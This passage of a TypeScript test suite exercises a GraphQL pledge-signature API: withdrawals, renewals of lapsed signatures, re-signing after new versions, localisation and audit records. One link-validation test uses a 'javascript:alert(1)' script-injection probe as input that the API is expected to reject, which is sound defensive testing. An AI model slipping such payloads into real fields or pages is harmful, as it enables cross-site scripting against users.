        fieldErrors: { reason: ['errors.reasonRequired'] },
      },
    );
  });

  it('an omitted reason is refused by the schema, and nothing is written', async () => {
    const signature = await customsSignature();
    const before = await dbState();
    const res = await gql(WITHDRAW, { input: { signatureId: signatureGid(signature.id) } }, as('customsSignatory'));
    expect(res.data?.withdrawPledgeSignature ?? null).toBeNull();
    expect(res.errors?.[0].message).toMatch(/reason/);
    expect(await dbState()).toEqual(before);
  });

  it('says so in Russian with Accept-Language: ru', async () => {
    const signature = await customsSignature();
    const result = await expectRefused(
      'customsSignatory',
      'withdrawPledgeSignature',
      WITHDRAW,
      { input: { signatureId: signatureGid(signature.id), reason: 'Нет' } },
      'ValidationError',
      { locale: 'ru', fieldErrors: { reason: ['errors.reasonRequired'] } },
    );
    expect(result.fieldErrors[0].messages[0]).toMatch(/[а-яё]/i);
  });

  it('is NotFoundError for an unknown signature', async () => {
    await expectRefused(
      'customsSignatory',
      'withdrawPledgeSignature',
      WITHDRAW,
      { input: { signatureId: signatureGid('no-such-signature'), reason: REASON } },
      'NotFoundError',
    );
  });
});

describe('renewPledgeSignature', () => {
  /** A customs signature of a 12-month pledge, signed 13 months ago: lapsed. */
  const lapsedSignature = async () => {
    const pledge = await publishedPledge({ renewalMonths: 12 });
    return signPledge(at(ctxs.customsSignatory, monthsAgo(13)), domainSignInput(pledge.id, customs));
  };
  const input = (signatureId: string, extra: Record<string, unknown> = {}) => ({
    input: { signatureId: signatureGid(signatureId), report: REPORT, links: ['https://customs.example.kz/fees.pdf'], ...extra },
  });

  it.each<Who>(['customsSignatory', 'customsAdmin'])('lets %s renew a lapsed signature with a progress report: active again', async (who) => {
    const signature = await lapsedSignature();
    const before = await writeCounts(t.db);
    const STATUS = `query ($id: ID!) { node(id: $id) { ... on PledgeSignature { status renewalDueAt } } }`;
    expect((await gql(STATUS, { id: signatureGid(signature.id) })).data.node.status).toBe('LAPSED');

    const data = successOf(await gql(RENEW, input(signature.id), as(who)), 'renewPledgeSignature');
    const stored = await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id }, include: { progressReports: true } });
    expect(stored.lastRenewedAt.getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(stored.signedAt.getTime()).toBe(signature.signedAt.getTime());
    expect(stored.progressReports).toHaveLength(1);
    expect(stored.progressReports[0]).toMatchObject({
      body: REPORT,
      links: ['https://customs.example.kz/fees.pdf'],
      createdById: users[who as SignedIn].id,
      organizationId: customs.id,
    });
    expect(data).toMatchObject({
      id: signatureGid(signature.id),
      status: 'ACTIVE',
      signedAt: iso(signature.signedAt),
      lastRenewedAt: iso(stored.lastRenewedAt),
      renewalDueAt: iso(addMonthsUtc(stored.lastRenewedAt, 12)),
      progressReports: [{ body: REPORT, links: ['https://customs.example.kz/fees.pdf'], createdAt: iso(stored.progressReports[0].createdAt) }],
    });
    expect(await writeCounts(t.db)).toEqual({ ...before, reports: before.reports + 1, audits: before.audits + 1 });
    const audit = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: signature.pledgeId, action: 'pledge.renewed' } });
    expect(audit).toMatchObject({ actorId: users[who as SignedIn].id, organizationId: customs.id });
    expect(audit.data).toMatchObject({ statusBefore: 'LAPSED' });
    expect((await gql(STATUS, { id: signatureGid(signature.id) })).data.node.status).toBe('ACTIVE');
  });

  it.each(SIGN_REFUSED)('refuses $who with $typename and stores nothing', async ({ who, typename }) => {
    const signature = await lapsedSignature();
    await expectRefused(who, 'renewPledgeSignature', RENEW, input(signature.id), typename);
  });

  it.each(['ftp://x', 'javascript:alert(1)', 'example.org/report'])('a bad link (%j) is a ValidationError on links.0', async (link) => {
    const signature = await lapsedSignature();
    await expectRefused('customsSignatory', 'renewPledgeSignature', RENEW, input(signature.id, { links: [link] }), 'ValidationError', {
      fieldErrors: { 'links.0': ['errors.url'] },
    });
  });

  it('a short report is a ValidationError on report; in Russian with Accept-Language: ru', async () => {
    const signature = await lapsedSignature();
    await expectRefused('customsSignatory', 'renewPledgeSignature', RENEW, input(signature.id, { report: 'Did things.' }), 'ValidationError', {
      fieldErrors: { report: [{ key: 'errors.tooShort', params: { min: 20, count: 20 } }] },
    });
    const ru = await expectRefused(
      'customsSignatory',
      'renewPledgeSignature',
      RENEW,
      input(signature.id, { links: ['https://ok.example/a', 'ftp://x'] }),
      'ValidationError',
      {
        locale: 'ru',
        fieldErrors: { 'links.1': ['errors.url'] },
      },
    );
    expect(ru.message).toMatch(/[а-яё]/i);
    expect(ru.fieldErrors[0].messages[0]).toMatch(/[а-яё]/i);
  });

  it('is a ConflictError for a signature of a closed pledge or a withdrawn signature', async () => {
    const signature = await lapsedSignature();
    await closePledge(ctxs.platformAdmin, { pledgeId: signature.pledgeId });
    await expectRefused('customsSignatory', 'renewPledgeSignature', RENEW, input(signature.id), 'ConflictError', { key: 'errors.pledgeClosed' });
    const other = await lapsedSignature();
    await withdrawPledgeSignature(ctxs.customsSignatory, { signatureId: other.id, reason: 'We are leaving the programme.' });
    await expectRefused('customsSignatory', 'renewPledgeSignature', RENEW, input(other.id), 'ConflictError', { key: 'errors.signatureWithdrawn' });
  });
});

describe('re-signing after a new version', () => {
  it('works through GraphQL: the old signature is superseded and leaves the lists, the new one takes its place', async () => {
    // Published and signed through the API.
    const draft = successOf(
      await gql(
        CREATE,
        { input: { ...draftInput({ title: 'Publish every fee, every year' }), ownerOrganizationId: orgGid(partner.id) } },
        as('partnerSignatory'),
      ),
      'createPledgeDraft',
    );
    successOf(await gql(PUBLISH, { id: draft.id }, as('partnerSignatory')), 'publishPledge');
    const v1 = successOf(
      await gql(SIGN, { input: { pledgeId: draft.id, organizationId: orgGid(customs.id), confirmation: confirmationFor(customs) } }, as('customsSignatory')),
      'signPledge',
    );
    expect(v1).toMatchObject({ version: { number: 1 }, superseded: false });
    const business1 = successOf(
      await gql(SIGN, { input: { pledgeId: draft.id, organizationId: orgGid(business.id), confirmation: confirmationFor(business) } }, as('businessSignatory')),
      'signPledge',
    );

    const v2Pledge = successOf(
      await gql(
        PUBLISH_VERSION,
        { input: { pledgeId: draft.id, title: 'Publish every fee, every month', body: `${PLEDGE_BODY}\n\nMonthly.`, factors: ['TRANSPARENCY'] } },
        as('partnerAdmin'),
      ),
      'publishPledgeVersion',
    );
    expect(v2Pledge.currentVersionNumber).toBe(2);

    const SIGNATURES = `
      query ($id: ID) {
        pledge(id: $id) { signatureCount signatures(first: 10) { edges { node { id superseded version { number } organization { id } } } } }
      }`;
    // Until it re-signs, the organisation's version 1 signature is still its current one.
    const between = await gql(SIGNATURES, { id: draft.id });
    expect(ids(edgesOf(between.data.pledge.signatures))).toEqual([v1.id, business1.id]);

    const v2 = successOf(
      await gql(
        SIGN,
        { input: { pledgeId: draft.id, organizationId: orgGid(customs.id), confirmation: confirmationFor(customs), statement: 'Re-signed' } },
        as('customsAdmin'),
      ),
      'signPledge',
    );
    expect(v2).toMatchObject({ version: { number: 2 }, superseded: false, status: 'ACTIVE', statement: 'Re-signed' });
    expect(v2.id).not.toBe(v1.id);

    const after = await gql(SIGNATURES, { id: draft.id });
    expect(after.errors).toBeUndefined();
    expect(after.data.pledge.signatureCount).toBe(2);
    expect(edgesOf(after.data.pledge.signatures)).toEqual([
      { id: business1.id, superseded: false, version: { number: 1 }, organization: { id: orgGid(business.id) } },
      { id: v2.id, superseded: false, version: { number: 2 }, organization: { id: orgGid(customs.id) } },
    ]);
    const node = await gql(`query ($id: ID!) { node(id: $id) { ... on PledgeSignature { superseded version { number } } } }`, { id: v1.id });
    expect(node.data.node).toEqual({ superseded: true, version: { number: 1 } });

    // The organisation lists the new signature, not the old one.
    const org = await gql(`query ($slug: String!) { organization(slug: $slug) { pledgeSignatures(first: 100) { edges { node { id } } } } }`, {
      slug: customs.slug,
    });
    const orgSignatures = ids(edgesOf(org.data.organization.pledgeSignatures));
    expect(orgSignatures).toContain(v2.id);
    expect(orgSignatures).not.toContain(v1.id);

    // In the database: the old row kept, superseded at the moment of re-signing.
    const pledgeId = Buffer.from(draft.id, 'base64').toString().split(':')[1];
    const rows = await t.db.pledgeSignature.findMany({
      where: { pledgeId, organizationId: customs.id },
      orderBy: { signedAt: 'asc' },
      include: { version: true },
    });
    expect(rows.map((r) => [signatureGid(r.id), r.version.number, r.supersededAt !== null])).toEqual([
      [v1.id, 1, true],
      [v2.id, 2, false],
    ]);
    expect(rows[0].supersededAt!.getTime()).toBe(rows[1].signedAt.getTime());
    const resigned = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledgeId, action: 'pledge.resigned' } });
    expect(resigned).toMatchObject({ actorId: users.customsAdmin.id, organizationId: customs.id });
    expect(resigned.data).toMatchObject({ version: 2, previousVersion: 1 });

    // Signing once more is a conflict; the superseded signature can be neither withdrawn nor renewed.
    await expectRefused(
      'customsSignatory',
      'signPledge',
      SIGN,
      { input: { pledgeId: draft.id, organizationId: orgGid(customs.id), confirmation: confirmationFor(customs) } },
      'ConflictError',
      {
        key: 'errors.alreadySigned',
      },
    );
    await expectRefused(
      'customsSignatory',
      'withdrawPledgeSignature',
      WITHDRAW,
      { input: { signatureId: v1.id, reason: 'We changed our minds.' } },
      'ConflictError',
      {
        key: 'errors.signatureSuperseded',
      },
    );
    await expectRefused('customsSignatory', 'renewPledgeSignature', RENEW, { input: { signatureId: v1.id, report: REPORT } }, 'ConflictError', {
      key: 'errors.signatureSuperseded',
    });
  });
});

describe('signing again after a withdrawal', () => {
  it('the new signature takes the withdrawn one’s place in Pledge.signatures; the withdrawn one is kept, superseded', async () => {
    const pledge = await publishedPledge();
    const first = successOf(await gql(SIGN, { input: signInputFor(pledge.id, business) }, as('businessSignatory')), 'signPledge');
    const withdrawn = successOf(
      await gql(WITHDRAW, { input: { signatureId: first.id, reason: 'We are pausing our participation.' } }, as('businessSignatory')),
      'withdrawPledgeSignature',
    );
    expect(withdrawn).toMatchObject({ id: first.id, status: 'WITHDRAWN', withdrawalReason: 'We are pausing our participation.' });

    const again = successOf(await gql(SIGN, { input: signInputFor(pledge.id, business, { statement: 'Back again.' }) }, as('businessSignatory')), 'signPledge');
    expect(again).toMatchObject({ status: 'ACTIVE', superseded: false, statement: 'Back again.', version: { number: 1 } });
    expect(again.id).not.toBe(first.id);

    const res = await gql(
      `query ($slug: String!) {
        pledge(slug: $slug) {
          signatureCount
          withdrawn: signatureCount(status: WITHDRAWN)
          signatures(first: 10) { edges { node { id status } } }
        }
      }`,
      { slug: pledge.slug },
    );
    expect(res.errors).toBeUndefined();
    expect(res.data.pledge).toEqual({ signatureCount: 1, withdrawn: 0, signatures: { edges: [{ node: { id: again.id, status: 'ACTIVE' } }] } });
    const node = await gql(`query ($id: ID!) { node(id: $id) { ... on PledgeSignature { status superseded withdrawalReason } } }`, { id: first.id });
    expect(node.data.node).toEqual({ status: 'WITHDRAWN', superseded: true, withdrawalReason: 'We are pausing our participation.' });
    const rows = await t.db.pledgeSignature.findMany({ where: { pledgeId: pledge.id, organizationId: business.id }, orderBy: { signedAt: 'asc' } });
    expect(rows.map((r) => [signatureGid(r.id), r.withdrawnAt !== null, r.supersededAt !== null])).toEqual([
      [first.id, true, true],
      [again.id, false, false],
    ]);
  });
});
